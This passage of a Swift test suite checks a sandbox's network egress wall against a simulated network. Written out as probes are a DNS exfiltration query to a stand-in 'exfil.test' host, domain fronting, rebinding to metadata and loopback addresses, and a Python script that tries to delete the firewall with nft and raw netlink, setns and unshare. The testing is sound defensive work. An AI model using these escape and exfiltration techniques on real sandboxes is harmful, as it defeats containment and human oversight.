import Foundation
import StockadeEvents
import Testing

/// The world itself, with no sandbox: if this fails, the egress tests below
/// prove nothing.
@Suite("Network world", .enabled(if: NetworkWorld.available()))
struct NetworkWorldTests {
    @Test("worldSelfCheck: dnsmasq answers, fake servers answer, teardown leaves nothing")
    func worldSelfCheck() throws {
        let world = try NetworkWorld.make()
        var left: [String] = []
        do {
            #expect(try world.queryFromHost("allowed.test") == "rcode=0 \(world.allowedIP)")
            #expect(try world.queryFromHost("allowed.test", tcp: true) == "rcode=0 \(world.allowedIP)")
            #expect(try world.queryFromHost("short.test") == "rcode=0 \(world.shortIP)")
            #expect(try world.queryFromHost("meta.test") == "rcode=0 \(world.metadataIP)")
            #expect(try world.queryFromHost("rebind.test") == "rcode=0 127.0.0.1")
            #expect(try world.queryFromHost("v6.test", type: "AAAA") == "rcode=0 \(world.v6IP)")
            #expect(try world.queryFromHost("alias.test") == "rcode=0 \(world.allowedIP)")
            #expect(try world.queryFromHost("x.secret.exfil.test") == "rcode=0 \(world.exfilIP)")
            // Every reachable target the egress tests expect to be blocked
            // really answers from the host namespace: a failure inside the
            // sandbox is the firewall's doing, not the world's.
            let r = try world.exec(inHost: ["/usr/bin/python3", world.probeScript, "probe",
                                            "tcp allowed \(world.allowedIP) 80", "tcp other \(world.otherIP) 9000",
                                            "tcp p9000 \(world.allowedIP) 9000", "tcp dot \(world.otherIP) 853",
                                            "udp udp \(world.otherIP) 9001", "tcp meta \(world.metadataIP) 80",
                                            "tcp v6 \(world.v6IP) 9000", "curl tls https://other.test/ other.test:443:\(world.otherIP)", "dnstcp dns53 allowed.test \(world.dns)",
                                            "tcp hostsvc \(world.hostAddress) \(world.hostPort)",
                                            "http http http://\(world.allowedIP)/"])
            let probe = Harness.Result(status: r.status, stdout: r.stdout, stderr: r.stderr, events: [], eventLines: [])
            #expect(probe.climbResult("allowed") == "ok WORLD tcp \(world.allowedIP) 80", "\(r.stdout)\(r.stderr)")
            #expect(probe.climbResult("other") == "ok WORLD tcp \(world.otherIP) 9000")
            #expect(probe.climbResult("tls") == "ok WORLD tls \(world.otherIP) 443 other.test", "\(r.stdout)")
            #expect(probe.climbResult("p9000") == "ok WORLD tcp \(world.allowedIP) 9000")
            #expect(probe.climbResult("dot") == "ok WORLD tcp \(world.otherIP) 853")
            #expect(probe.climbResult("udp") == "ok WORLD udp \(world.otherIP) 9001 ping")
            #expect(probe.climbResult("meta") == "ok WORLD tcp \(world.metadataIP) 80")
            #expect(probe.climbResult("v6") == "ok WORLD tcp \(world.v6IP) 9000")
            #expect(probe.climbResult("dns53") == "ok rcode=0 \(world.allowedIP)")
            #expect(probe.climbResult("hostsvc")?.hasPrefix("ok WORLD tcp") == true)
            #expect(probe.climbResult("http") == "ok WORLD tcp \(world.allowedIP) 80")
            #expect(world.serverConnections(to: world.allowedIP, port: 80).count == 2)
            #expect(world.hostLog.contains("tcp 0.0.0.0 \(world.hostPort)"))
            try world.syncDNSLog()
            #expect(world.dnsLog.contains("query[A] allowed.test"))
            // The world has no way out: an address outside it is unreachable.
            let out = try world.exec(inWorld: ["/usr/sbin/ip", "route", "get", "192.0.2.1"])
            #expect(out.status != 0, "world has a route out: \(out.stdout)")
            #expect(try world.extraHostLinks().isEmpty)
            #expect(try world.hostNftTables().isEmpty)
        } catch {
            left = world.tearDown()
            #expect(left.isEmpty, "leftovers: \(left)")
            throw error
        }
        left = world.tearDown()
        #expect(left.isEmpty, "leftovers: \(left)")
        let namespaces = try Harness.runProcess(["/usr/sbin/ip", "netns", "list"]).stdout
        #expect(!namespaces.contains(world.worldNS) && !namespaces.contains(world.hostNS))
        // A zombie awaiting its reaper has an empty command line: dead enough.
        for pid in world.pids {
            #expect(!NetworkWorld.commandLine(pid).contains(world.stateDir), "pid \(pid) survived")
        }
        #expect(!FileManager.default.fileExists(atPath: world.stateDir))
    }
}

extension NetworkWorld {
    /// Runs `probes` in a sandbox (mode, allowlist) inside the host namespace.
    /// `rootless`: started by an unprivileged user (the workspace's owner).
    /// `extra`: more sandbox-run options (e.g. `--allow-ech NAME`). `upstream`:
    /// another `--dns-upstream` than the world's dnsmasq. `clientTimeout`: the
    /// probes' own timeout (`probeCommand`).
    func probe(_ probes: [String], allow: [String], mode: String = "filtered", timeout: Double = 120,
               rootless: Bool = false, extra: [String] = [], upstream: String? = nil,
               clientTimeout: Int? = nil) throws -> Harness.Result {
        let ws = Harness.makeWorkspace()
        defer { Harness.removeTree(ws) }
        let cmd = try probeCommand(probes, workspace: ws, clientTimeout: clientTimeout)
        return try run(inHost: ["--workspace", ws] + netArgs(mode, allow: allow, upstream: upstream) + extra + ["--"] + cmd, cwd: ws, timeout: timeout,
                       asUser: rootless ? Harness.testUID : nil)
    }
}

/// Keeps failure messages readable: the result of a probe run, not its whole event dump.
extension Harness.Result: CustomTestStringConvertible {
    var testDescription: String {
        "status \(status); " + stdout.split(separator: "\n").filter { $0.hasPrefix("RESULT ") }.joined(separator: "; ")
    }
}

extension Harness.Result {
    func ok(_ label: String) -> Bool { climbResult(label)?.hasPrefix("ok ") == true }
    func failed(_ label: String) -> Bool { climbResult(label)?.hasPrefix("fail ") == true }
    /// `net.denied` events that name `address` (and `port`, if given).
    func denied(_ address: String, port: Int? = nil) -> [JSONObject] {
        events("net.denied").filter { event in event.mentions(address) && (port.map { event.mentions("\($0)") } ?? true) }
    }
    func dnsQueries(_ name: String) -> [JSONObject] { events("dns.query").filter { $0.mentions(name) } }
    /// `net.denied` events of protocol `proto` that name `address` and `port`.
    func denied(_ proto: String, _ address: String, port: Int) -> [JSONObject] {
        denied(address, port: port).filter { $0["proto"]?.stringValue == proto }
    }
    /// The sandbox's own refusal, seen from both sides: the probe failed at once
    /// with the errno the wall gives (a TCP reset: ECONNREFUSED; a dropped UDP
    /// datagram: EPERM from sendto), not by its own timeout, and a `net.denied`
    /// event names the destination. A drop could only be inferred from silence;
    /// this is positive evidence, and a wall that fell turns it into "ok".
    func refused(_ label: String, _ proto: String, _ address: String, port: Int) -> Bool {
        climbResult(label) == "fail \(proto == "udp" ? "EPERM" : "ECONNREFUSED")" && !denied(proto, address, port: port).isEmpty
    }
    /// The reasons of the relay's `net.denied` events for `address`.
    func reasons(_ address: String) -> [String] { denied(address).compactMap { $0["reason"]?.stringValue } }
    var transcript: String { "status \(status)\nstdout:\n\(stdout)\nstderr:\n\(stderr)\nevents:\n\(eventLines.joined(separator: "\n"))" }
}

/// The egress wall, tried from inside real sandboxes with real clients. Every
/// "fails" is also checked on the far side (the fake server never saw it) and
/// by its `net.denied` event. Each wall is tried as root and rootless (the
/// `rootless` argument; `concurrentSandboxesLeaveNothing` starts half of its
/// sandboxes rootless).
@Suite("Egress", .enabled(if: NetworkWorld.available()))
struct EgressTests {
    @Test("an allowlisted name on a non-HTTP port connects, relayed from the supervisor's namespace", arguments: [false, true])
    func allowedConnects(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve r allowed.test", "getent g allowed.test", "tcp t allowed.test 9000"],
                                allow: ["allowed.test:9000"], rootless: rootless)
            #expect(r.status == 0, "\(r.transcript)")
            #expect(r.climbResult("r") == "ok \(w.allowedIP)", "\(r.transcript)")
            #expect(r.climbResult("g")?.hasPrefix("ok \(w.allowedIP)") == true)
            #expect(r.climbResult("t") == "ok WORLD tcp \(w.allowedIP) 9000", "\(r.transcript)")
            // The connection left from the host namespace's own address: the relay's.
            #expect(w.serverConnections(to: w.allowedIP, port: 9000).contains { $0.hasSuffix("from \(w.hostAddress)") }, "\(w.serverLog)")
            #expect(r.dnsQueries("allowed.test").contains { $0["decision"]?.stringValue == "allow" }, "\(r.transcript)")
            #expect(r.events("net.denied").isEmpty, "\(r.transcript)")
            #expect(r.end?["network"]?.objectValue?["connections_relayed"]?.int64Value == 1, "\(r.transcript)")
        }
    }

    @Test("a raw IP never resolved through the proxy is refused at once, with net.denied, and never reaches it", arguments: [false, true])
    func rawIP(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp d443 \(w.otherIP) 443", "tcp d80 \(w.otherIP) 80", "tcp d9000 \(w.otherIP) 9000",
                                 "tcp ctl allowed.test 9000"], allow: ["allowed.test:9000"], rootless: rootless)
            #expect(r.ok("ctl"), "\(r.transcript)")
            for label in ["d443", "d80", "d9000"] { #expect(r.climbResult(label) == "fail ECONNREFUSED", "\(label): \(r.transcript)") }
            #expect(w.serverConnections(to: w.otherIP).isEmpty, "\(w.serverLog)")
            for port in [443, 80, 9000] { #expect(!r.denied(w.otherIP, port: port).isEmpty, "\(port): \(r.transcript)") }
        }
    }

    @Test("an allowlisted address on an undeclared port (8443, 853) is refused; NAME:PORT opens that port only",
          arguments: [false, true])
    func ports(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp ok allowed.test 9000", "tcp p8443 allowed.test 8443", "tcp dot allowed.test 853"],
                                allow: ["allowed.test:9000"], rootless: rootless)
            #expect(r.ok("ok"), "\(r.transcript)")
            #expect(r.refused("p8443", "tcp", w.allowedIP, port: 8443), "\(r.transcript)")
            #expect(r.refused("dot", "tcp", w.allowedIP, port: 853), "\(r.transcript)")
            #expect(w.serverConnections(to: w.allowedIP, port: 8443).isEmpty && w.serverConnections(to: w.allowedIP, port: 853).isEmpty)
        }
    }

    /// No fixed wait for the (clamped) timeout: the address is tried every
    /// 0.2 s until the wall refuses it, and every try that got through
    /// before is accounted for on the server's side.
    @Test("an address learned from a TTL-2 answer stops being reachable after its (clamped) timeout", arguments: [false, true])
    func ttlExpiry(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp first short.test 9000", "tcpuntilfail later \(w.shortIP) 9000 60"], allow: ["short.test:9000"],
                                rootless: rootless)
            #expect(r.climbResult("first") == "ok WORLD tcp \(w.shortIP) 9000", "\(r.transcript)")
            let later = r.climbResult("later") ?? ""
            let through = later.hasPrefix("fail ECONNREFUSED after ") ? Int(later.split(separator: " ").last ?? "") : nil
            #expect(through != nil, "never refused, or not by the wall: \(r.transcript)")
            #expect(!r.denied("tcp", w.shortIP, port: 9000).isEmpty, "\(r.transcript)")
            #expect(w.serverConnections(to: w.shortIP, port: 9000).count == 1 + (through ?? -1), "\(w.serverLog)")
        }
    }

    @Test("UDP other than DNS to the proxy, QUIC (UDP 443) included, is dropped and evented", arguments: [false, true])
    func udpAndQUIC(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve r allowed.test", "udp quic \(w.allowedIP) 443", "udp allowed \(w.allowedIP) 9001",
                                 "udp other \(w.otherIP) 9001"], allow: ["allowed.test"], rootless: rootless)
            #expect(r.ok("r"), "\(r.transcript)")
            #expect(r.refused("quic", "udp", w.allowedIP, port: 443), "\(r.transcript)")
            #expect(r.refused("allowed", "udp", w.allowedIP, port: 9001), "\(r.transcript)")
            #expect(r.refused("other", "udp", w.otherIP, port: 9001), "\(r.transcript)")
            #expect(!w.serverLog.contains("udp "), "\(w.serverLog)")
        }
    }

    @Test("DNS straight to the world's resolver (UDP and TCP 53) is dropped and never reaches it", arguments: [false, true])
    func directDNS(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let tag = "directprobe\(UInt32.random(in: 0...UInt32.max))"
            let r = try w.probe(["dns u \(tag)u.allowed.test \(w.dns)", "dnstcp t \(tag)t.allowed.test \(w.dns)",
                                 "dns a allowed.test \(w.dns)", "dns proxy allowed.test @ns", "dnstcp proxytcp allowed.test @ns"],
                                allow: ["allowed.test"], rootless: rootless)
            #expect(r.climbResult("proxy") == "ok rcode=0 \(w.allowedIP)", "\(r.transcript)")
            #expect(r.climbResult("proxytcp") == "ok rcode=0 \(w.allowedIP)", "\(r.transcript)")
            #expect(r.refused("u", "udp", w.dns, port: 53) && r.refused("a", "udp", w.dns, port: 53), "\(r.transcript)")
            #expect(r.refused("t", "tcp", w.dns, port: 53), "\(r.transcript)")
            #expect(r.denied("udp", w.dns, port: 53).count >= 2, "\(r.transcript)")
            try w.syncDNSLog()
            #expect(!w.dnsLog.contains(tag), "the world's resolver was reached:\n\(w.dnsLog)")
        }
    }

    @Test("a query for a name not allowlisted never leaves the host (no DNS exfiltration); denied dns.query event", arguments: [false, true])
    func noExfiltration(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve py secret123.exfil.test", "getent g secret123.exfil.test",
                                 "tcp c secret123.exfil.test 9000", "resolve ok allowed.test"], allow: ["allowed.test"],
                                rootless: rootless)
            #expect(r.failed("py") && r.failed("g") && r.failed("c"), "\(r.transcript)")
            #expect(r.ok("ok"), "the proxy answers allowed names: \(r.transcript)")
            try w.syncDNSLog()
            #expect(!w.dnsLog.contains("secret123"), "exfiltrated:\n\(w.dnsLog)")
            #expect(w.serverConnections(to: w.exfilIP).isEmpty)
            #expect(r.dnsQueries("secret123.exfil.test").contains { $0["decision"]?.stringValue == "deny" }, "\(r.transcript)")
        }
    }

    @Test("rebinding answers (loopback, metadata, the host's own address) are stripped and unreachable", arguments: [false, true])
    func rebinding(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve rb rebind.test", "resolve md meta.test", "tcp mdname meta.test 80",
                                 "tcp mdip \(w.metadataIP) 80", "tcp self hostself.test \(w.hostPort)", "tcp ctl allowed.test 9000"],
                                allow: ["rebind.test", "meta.test", "allowed.test:9000", "hostself.test:\(w.hostPort)"],
                                rootless: rootless)
            #expect(r.ok("ctl"), "\(r.transcript)")
            #expect(r.climbResult("rb") != nil && r.climbResult("rb")?.contains("127.0.0.1") != true, "\(r.transcript)")
            #expect(r.climbResult("md") != nil && r.climbResult("md")?.contains(w.metadataIP) != true, "\(r.transcript)")
            #expect(r.failed("mdname") && r.failed("self"), "\(r.transcript)")
            #expect(r.refused("mdip", "tcp", w.metadataIP, port: 80), "\(r.transcript)")
            #expect(w.serverConnections(to: w.metadataIP).isEmpty, "\(w.serverLog)")
            #expect(w.hostLog.isEmpty, "the host's own service was reached:\n\(w.hostLog)")
            #expect(r.dnsQueries("hostself.test").contains { $0.mentions(w.hostAddress) }, "no stripped host address: \(r.transcript)")
        }
    }

    /// Connections leave from the supervisor's namespace, so the relay itself
    /// must keep the host out of reach. Audit mode sends every TCP connection
    /// to the relay: a direct connect to the host's own address and loopback
    /// meets the relay's check (not only the DNS filter) and is refused even
    /// in audit mode.
    @Test("the relay refuses destinations local to the supervisor's namespace (local_address), even in audit mode", arguments: [false, true])
    func localAddress(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp self \(w.hostAddress) \(w.hostPort)", "tcp lo 127.0.0.2 \(w.hostPort)", "tcp ctl allowed.test 9000"],
                                allow: ["allowed.test:9000"], mode: "audit", rootless: rootless)
            #expect(r.ok("ctl"), "\(r.transcript)")
            #expect(r.failed("self"), "\(r.transcript)")
            #expect(w.hostLog.isEmpty, "the host's own service was reached:\n\(w.hostLog)")
            let refusal = r.denied(w.hostAddress, port: w.hostPort)
            #expect(refusal.contains { $0["reason"]?.stringValue == "local_address" && $0["enforced"]?.boolValue == true }, "\(r.transcript)")
        }
    }

    /// Fronting on a shared address: the address is allowed (resolved for
    /// allowed.test), the bytes name another site. The relay must refuse
    /// before a byte leaves (the server never sees a connection on 443 or
    /// 80), and each refusal names its reason.
    @Test("fronting by SNI, by Host:, with no SNI and with ECH never reaches the shared address; each refusal names its reason", arguments: [false, true])
    func frontingNeverLeaves(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve r allowed.test",
                                 "curl sni https://other.test/ other.test:443:\(w.allowedIP)",
                                 "curl host http://other.test/ other.test:80:\(w.allowedIP)",
                                 "hello nosni \(w.allowedIP) 443 - plain", "hello ech \(w.allowedIP) 443 allowed.test ech"],
                                allow: ["allowed.test"], rootless: rootless)
            #expect(r.ok("r"), "\(r.transcript)")
            for label in ["sni", "host", "nosni", "ech"] { #expect(r.failed(label), "\(label): \(r.transcript)") }
            #expect(w.serverConnections(to: w.allowedIP).isEmpty, "a fronted connection reached the server:\n\(w.serverLog)")
            #expect(Set(r.reasons(w.allowedIP)) == ["sni_mismatch", "host_mismatch", "no_sni", "ech"], "\(r.transcript)")
            #expect(r.denied(w.allowedIP, port: 443).contains { $0["name"]?.stringValue == "other.test" }, "\(r.transcript)")
        }
    }

    /// A workload that opens many connections and never sends its first
    /// flight must not stall the relay (its loop is the supervisor's): other
    /// connections still go through, and the silent ones are reset once
    /// their time is up, each with an event.
    @Test("a hundred silent connections on 443 do not stall the relay; they are reset when their time is up",
          arguments: [false, true])
    func silentClientsDoNotStall(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve r allowed.test", "hold h \(w.allowedIP) 443 100", "tcp ctl allowed.test 9000",
                                 "heldreset gone"], allow: ["allowed.test", "allowed.test:9000"], timeout: 180, rootless: rootless)
            #expect(r.climbResult("h") == "ok 100 open", "\(r.transcript)")
            #expect(r.climbResult("ctl") == "ok WORLD tcp \(w.allowedIP) 9000", "\(r.transcript)")
            #expect(r.climbResult("gone") == "ok 100 of 100 closed", "\(r.transcript)")
            #expect(w.serverConnections(to: w.allowedIP, port: 443).isEmpty, "\(w.serverLog)")
            #expect(r.denied(w.allowedIP, port: 443).filter { $0["reason"]?.stringValue == "malformed" }.count == 100, "\(r.transcript)")
        }
    }

    /// The workload holds no capability in the namespace that holds its rules,
    /// and cannot get one: nft, raw netlink, setns and unshare all fail, and
    /// the wall still stands afterwards.
    @Test("the workload cannot change its rules: nft, raw netlink, setns, unshare", arguments: [false, true])
    func rulesAreOutOfReach(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let ws = Harness.makeWorkspace()
            defer { Harness.removeTree(ws) }
            try Harness.installClimb(into: ws)
            let script = """
            import ctypes, os, socket, struct
            def attempt(label, fn):
                try:
                    fn(); print("RESULT %s ok" % label, flush=True)
                except Exception as e:
                    print("RESULT %s fail %s" % (label, getattr(e, "errno", None) or type(e).__name__), flush=True)
            status = open("/proc/self/status").read()
            for key in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
                print("CAPS %s %s" % (key, status.split(key + ":")[1].split()[0]), flush=True)
            def netlink_delete():
                s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); s.bind((0, 0))
                name = b"stockade\\0"
                attr = struct.pack("<HH", 4 + len(name), 1) + name + b"\\0" * ((4 - len(name) % 4) % 4)
                body = struct.pack("<BBH", 1, 0, 0) + attr   # nfgenmsg inet, NFTA_TABLE_NAME
                begin = struct.pack("<IHHII", 20, 0x10, 1, 1, 0) + struct.pack("<BBH", 0, 0, 0x0a00)
                msg = struct.pack("<IHHII", 16 + len(body), 0x0a02, 1 | 4, 2, 0) + body   # NFT_MSG_DELTABLE, ACK
                end = struct.pack("<IHHII", 20, 0x11, 1, 3, 0) + struct.pack("<BBH", 0, 0, 0x0a00)
                s.send(begin + msg + end)
                reply = s.recv(4096)
                err = struct.unpack("<i", reply[16:20])[0]
                if err != 0: raise OSError(-err, "netlink refused")
            attempt("netlink", netlink_delete)
            libc = ctypes.CDLL(None, use_errno=True)
            def setns():
                fd = os.open("/proc/self/ns/net", os.O_RDONLY)
                if libc.setns(fd, 0x40000000) != 0: raise OSError(ctypes.get_errno(), "setns")
            attempt("setns", setns)
            def nft():
                import subprocess
                r = subprocess.run(["nft", "flush", "ruleset"], capture_output=True)
                if r.returncode != 0: raise OSError(1, r.stderr.decode()[:60])
            attempt("nft", nft)
            """
            _ = FileManager.default.createFile(atPath: ws + "/climbrules.py", contents: Data(script.utf8))
            let probe = try w.probeCommand(["tcp raw \(w.otherIP) 9000", "tcp ctl allowed.test 9000"], workspace: ws)
            let quoted = ["/bin/sh", "-c", "/usr/bin/python3 \(ws)/climbrules.py; ./climb unshare-net; ./climb unshare-user; " +
                          probe.map { "'\($0)'" }.joined(separator: " ")]
            let r = try w.run(inHost: ["--workspace", ws] + w.netArgs(allow: ["allowed.test:9000"]) + ["--"] + quoted, cwd: ws,
                              asUser: rootless ? Harness.testUID : nil)
            // No capability survives in the user namespace that owns the rules' namespace.
            for key in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
                #expect(r.stdout.contains("CAPS \(key) 0000000000000000"), "\(key): \(r.transcript)")
            }
            for label in ["netlink", "setns", "nft", "unshare-net", "unshare-user"] {
                #expect(r.climbResult(label)?.hasPrefix("ok") == false, "\(label): \(r.transcript)")
            }
            // The wall still stands, and still lets the allowed name through.
            #expect(r.climbResult("raw") == "fail ECONNREFUSED", "\(r.transcript)")
            #expect(r.climbResult("ctl") == "ok WORLD tcp \(w.allowedIP) 9000", "\(r.transcript)")
        }
    }

    @Test("audit mode: everything TCP connects through the relay; events and the suggested allowlist name what was attempted",
          arguments: [false, true])
    func auditMode(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp a allowed.test 9000", "tcp o other.test 9000", "tcp d \(w.shortIP) 9000", "udp u \(w.otherIP) 9001"],
                                allow: ["allowed.test:9000"], mode: "audit", rootless: rootless)
            #expect(r.status == 0, "\(r.transcript)")
            #expect(r.climbResult("a") == "ok WORLD tcp \(w.allowedIP) 9000", "\(r.transcript)")
            #expect(r.climbResult("o") == "ok WORLD tcp \(w.otherIP) 9000", "\(r.transcript)")
            #expect(r.climbResult("d") == "ok WORLD tcp \(w.shortIP) 9000", "\(r.transcript)")
            #expect(r.refused("u", "udp", w.otherIP, port: 9001), "UDP cannot be relayed: \(r.transcript)")
            #expect(r.denied(w.otherIP, port: 9000).contains { $0["enforced"]?.boolValue == false && $0["reason"]?.stringValue == "not_resolved" },
                    "\(r.transcript)")
            #expect(r.denied(w.shortIP, port: 9000).contains { $0["enforced"]?.boolValue == false }, "\(r.transcript)")
            let end = try #require(r.end, "\(r.transcript)")
            let suggested = end["network"]?.objectValue?["suggested_allow"]?.arrayValue?.compactMap(\.stringValue) ?? []
            #expect(suggested.contains("other.test:9000"), "suggested: \(suggested)")
            // `report --suggest` proposes the same rules from the end event
            // as it rebuilds from the other events when the end is missing.
            let fromEnd = try Self.suggestedRules(r.eventLines)
            let rebuilt = try Self.suggestedRules(r.eventLines.filter { !$0.contains(#""type":"sandbox.end""#) })
            #expect(fromEnd.contains("other.test:9000"), "\(fromEnd)")
            #expect(fromEnd == rebuilt, "from sandbox.end: \(fromEnd); rebuilt: \(rebuilt)")
        }
    }

    /// The relay's connection cap comes from the supervisor's descriptor
    /// limit (docs/network.md, "Resource bounds"): under a hard limit of 512
    /// it holds 34 connections. With 34 held, one more is reset at once
    /// (its connect, or its first read, sees the reset), the ones held keep
    /// going, and the DNS proxy still answers. (Holding more than the cap
    /// would race: a connect can see the relay's reset before it returns.)
    @Test("past the relay's cap a connection is reset; the others and the DNS proxy go on", arguments: [false, true])
    func relayCap(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let ws = Harness.makeWorkspace()
            defer { Harness.removeTree(ws) }
            let cmd = try w.probeCommand(["hold h allowed.test 9000 34", "tcp over allowed.test 9000", "heldreset gone",
                                          "resolve r allowed.test"], workspace: ws)
            let r = try w.run(inHost: ["--workspace", ws] + w.netArgs("filtered", allow: ["allowed.test:9000"]) + ["--"] + cmd,
                              cwd: ws, asUser: rootless ? Harness.testUID : nil, wrapper: ["/usr/bin/prlimit", "--nofile=512:512"])
            #expect(r.ok("h"), "\(r.transcript)")
            #expect(r.failed("over"), "one past the cap went through: \(r.transcript)")
            #expect(r.climbResult("over")?.contains("timeout") == false, "refused by a hang, not a reset: \(r.transcript)")
            #expect(r.climbResult("gone") == "ok 0 of 34 closed", "\(r.transcript)")
            #expect(r.ok("r"), "the proxy stopped answering: \(r.transcript)")
            #expect(w.serverConnections(to: w.allowedIP, port: 9000).count == 34, "\(w.serverLog)")
        }
    }

    /// The `allow:` entries of `report --suggest` on a log made of `lines`.
    static func suggestedRules(_ lines: [String]) throws -> [String] {
        let path = NSTemporaryDirectory() + "stockade-suggest-\(UUID().uuidString).jsonl"
        defer { try? FileManager.default.removeItem(atPath: path) }
        try (lines.joined(separator: "\n") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        let r = try Harness.runProcess([Harness.binary, "report", "--suggest", path])
        #expect(r.status == 0, "\(r.stderr)")
        return r.stdout.split(separator: "\n").filter { $0.hasPrefix("    - ") }.map { String($0.dropFirst(6)) }
    }

    @Test("IPv6: a raw address is refused; an allowlisted name's private (ULA) AAAA is stripped", arguments: [false, true])
    func ipv6(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["tcp name v6.test 9000", "tcp ip \(w.v6IP) 9000", "udp u \(w.v6IP) 9001", "tcp ctl allowed.test 9000"],
                                allow: ["v6.test:9000", "allowed.test:9000"], rootless: rootless)
            #expect(r.ok("ctl"), "\(r.transcript)")
            #expect(r.failed("name"), "\(r.transcript)")
            #expect(r.refused("ip", "tcp", w.v6IP, port: 9000), "\(r.transcript)")
            #expect(r.refused("u", "udp", w.v6IP, port: 9001), "\(r.transcript)")
            #expect(w.serverConnections(to: w.v6IP).isEmpty, "\(w.serverLog)")
        }
    }

    @Test("20 sandboxes at once (half rootless) all get through; nothing appears in the host's namespace")
    func concurrentSandboxesLeaveNothing() throws {
        try NetworkWorld.with { w in
            let before = try w.hostRoutesAndAddresses()
            let forward = try w.hostIPForward()
            var running: [(RunningSandbox, String)] = []
            // On every path, the sandboxes get their go-ahead and are waited
            // for (killed if they hang) before their workspaces go: none
            // outlives the test by waiting out its 180 s.
            defer {
                for (_, ws) in running { _ = FileManager.default.createFile(atPath: ws + "/go", contents: nil) }
                for (s, ws) in running {
                    if s.process.isRunning { _ = s.wait(timeout: 30) }
                    Harness.removeTree(ws)
                }
            }
            var seen: [String] = []
            for i in 0..<20 {
                let ws = Harness.makeWorkspace()
                // Each holds on after its connection until the test says go, so
                // all twenty are up while the host namespace is inspected.
                let cmd = try w.probeCommand(["tcp a allowed.test 9000", "await go \(ws)/go 180"], workspace: ws)
                let args = ["--workspace", ws] + w.netArgs(allow: ["allowed.test:9000"]) + ["--"] + cmd
                running.append((try w.start(inHost: args, cwd: ws, asUser: i % 2 == 1 ? Harness.testUID : nil), ws))
            }
            let allConnected = Harness.waitUntil(180) { running.allSatisfy { $0.0.stdoutText.contains("RESULT a ") || !$0.0.process.isRunning } }
            #expect(allConnected, "not every sandbox got as far as its connection")
            // While they all run: still nothing in the host namespace.
            seen += try w.extraHostLinks()
            seen += try w.hostNftTables()
            for (_, ws) in running { _ = FileManager.default.createFile(atPath: ws + "/go", contents: nil) }
            let results = running.map { $0.0.wait(timeout: 180) }
            for (i, r) in results.enumerated() {
                #expect(r.status == 0 && r.climbResult("a") == "ok WORLD tcp \(w.allowedIP) 9000", "sandbox \(i): \(r.transcript)")
                #expect(r.climbResult("go") == "ok go", "sandbox \(i) was not running during the check: \(r.transcript)")
            }
            #expect(seen.isEmpty, "host-namespace objects while running: \(seen)")
            #expect(try w.extraHostLinks().isEmpty)
            #expect(try w.hostNftTables().isEmpty)
            #expect(try w.hostIPForward() == forward)
            #expect(try w.hostRoutesAndAddresses() == before)
        }
    }

    @Test("after kill -9 of the supervisor, its workload is gone and no network object is left anywhere", arguments: [false, true])
    func supervisorKilled(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let ws = Harness.makeWorkspace()
            defer { Harness.removeTree(ws) }
            let before = try w.hostRoutesAndAddresses()
            let forward = try w.hostIPForward()
            let marker = "\(rootless ? 62 : 61).\(UInt32.random(in: 100_000...999_999))"
            let s = try w.start(inHost: ["--workspace", ws] + w.netArgs(allow: ["allowed.test"]) +
                                ["--", "/bin/sh", "-c", "sleep \(marker); true"], cwd: ws, asUser: rootless ? Harness.testUID : nil)
            #expect(s.waitForEvent("sandbox.ready"), "never ready: \(s.eventText)")
            kill(s.pid, SIGKILL)
            _ = s.wait(timeout: 10)
            #expect(Harness.waitUntil(5) { Harness.hostProcesses(containing: marker).isEmpty }, "workload survived its supervisor")
            #expect(try w.extraHostLinks().isEmpty)
            #expect(try w.hostNftTables().isEmpty)
            #expect(try w.hostIPForward() == forward)
            #expect(try w.hostRoutesAndAddresses() == before)
        }
    }
}

/// Name-level verification with real clients: the SNI / Host must be an
/// allowed name that the proxy resolved to that very address in this sandbox.
@Suite("Egress name checks", .enabled(if: NetworkWorld.available()))
struct EgressNameCheckTests {
    @Test("real clients work unchanged over HTTPS and HTTP (curl with the world's CA, python's ssl)", arguments: [false, true])
    func realClients(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["curl https https://allowed.test/", "curl http http://allowed.test/",
                                 "tlsslow py allowed.test allowed.test 443 4096 0"], allow: ["allowed.test"], rootless: rootless)
            #expect(r.climbResult("https") == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(r.transcript)")
            #expect(r.climbResult("http") == "ok WORLD tcp \(w.allowedIP) 80", "\(r.transcript)")
            #expect(r.climbResult("py") == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(r.transcript)")
            #expect(r.events("net.denied").isEmpty, "\(r.transcript)")
        }
    }

    @Test("wget, python urllib, node fetch and git reach an allowed HTTPS name, and are refused another on its address", arguments: [false, true])
    func moreRealClients(rootless: Bool) throws {
        try NetworkWorld.with { w in
            var probes: [String] = []
            for tool in ["wget", "python", "node", "git"] {
                probes += ["client \(tool) \(tool) https://allowed.test/", "client \(tool)-http \(tool) http://allowed.test/"]
            }
            // Fronting with a real client: resolve allowed.test, then ask for other.test on its address.
            probes += ["resolve r allowed.test", "curl front https://other.test/ other.test:443:\(w.allowedIP)"]
            let r = try w.probe(probes, allow: ["allowed.test"], timeout: 180, rootless: rootless)
            for tool in ["wget", "python", "node"] {
